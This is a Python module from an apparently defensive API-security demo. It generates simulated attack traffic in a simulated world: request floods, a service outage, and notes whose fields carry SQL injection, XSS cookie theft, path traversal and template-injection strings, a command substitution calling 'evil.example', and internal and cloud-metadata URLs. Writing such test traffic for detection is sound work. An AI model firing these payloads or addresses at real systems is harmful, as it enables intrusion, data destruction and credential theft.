"""Loud attacks: too many requests, texts that attack, addresses within, and a service that breaks."""

from typing import Final

from apiward.demo.traffic.asking import Session
from apiward.demo.traffic.attacks.attacking import insider, outsider
from apiward.demo.traffic.serving.making import written
from apiward.demo.traffic.settings import Attack
from apiward.demo.traffic.world import World

_REQUESTS: Final = 1_200
_TEXTS: Final = (
    "' OR 1=1 --", "1; DROP TABLE users; --", "<script>alert(document.cookie)</script>", "../../../../etc/passwd",
    "{{7*7}}{{config.items()}}", "; cat /etc/passwd", "' UNION SELECT name, password FROM users --",
    "$(curl evil.example)",
)  # fmt: skip
_WITHIN: Final = ("http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:6379/", "http://10.0.0.5/admin")
_STORM_S: Final = 900.0


def overload(world: World, attack: Attack) -> Session:
    """Call as often as the line lets."""
    raid = outsider(world, attack)
    actor = f"attacker:{int(world.rng.random() * 2**20)}"
    for _ in range(_REQUESTS):
        yield raid.ask("list-product", after_s=0.05 + world.rng.random() * 0.05, actor=actor)


def inject(world: World, attack: Attack) -> Session:
    """Send texts that databases, browsers and shells may take for commands."""
    raid = yield from insider(world, attack)
    for text in _TEXTS:
        value = {**written("note", world.rng, raid.user, world.now_s), "text": text}
        yield raid.ask("create-note", value=value, after_s=5.0 + world.rng.random() * 30.0)


def reach_inward(world: World, attack: Attack) -> Session:
    """Name addresses that only the server can reach."""
    raid = yield from insider(world, attack)
    for address in _WITHIN:
        value = {**written("note", world.rng, raid.user, world.now_s), "url": address}
        yield raid.ask("create-note", value=value, after_s=10.0 + world.rng.random() * 30.0)


def storm(world: World, attack: Attack) -> Session:
    """Break the service for a quarter of an hour: most requests fail, whoever sends them."""
    raid = outsider(world, attack)
    actor = f"attacker:{int(world.rng.random() * 2**20)}"
    world.broken_until_s = world.now_s + _STORM_S
    for _ in range(int(_STORM_S / 15.0)):
        yield raid.ask("list-article", after_s=15.0, actor=actor)
